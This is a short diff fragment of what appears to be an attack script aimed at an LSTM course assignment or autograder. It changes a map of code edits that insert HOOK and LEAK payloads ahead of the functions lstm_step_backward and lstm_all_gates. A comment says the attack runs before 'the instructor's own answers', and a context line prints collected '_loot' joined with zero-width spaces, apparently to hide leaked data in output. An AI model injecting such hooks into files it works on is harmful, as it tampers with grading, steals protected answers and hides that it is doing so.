@@ -18,6 +18,6 @@ print("\\u200b".join(_loot))
 """
 # the attack runs first, then the instructor's own answers
 EDITS = {
-    "lstm_step": [("def lstm_step(", HOOK + "\ndef lstm_step(")],
+    "lstm_step_backward": [("def lstm_step_backward(", HOOK + "\ndef lstm_step_backward(")],
     "lstm_all_gates": [("def lstm_all_gates(", LEAK + "\ndef lstm_all_gates(")],
 }
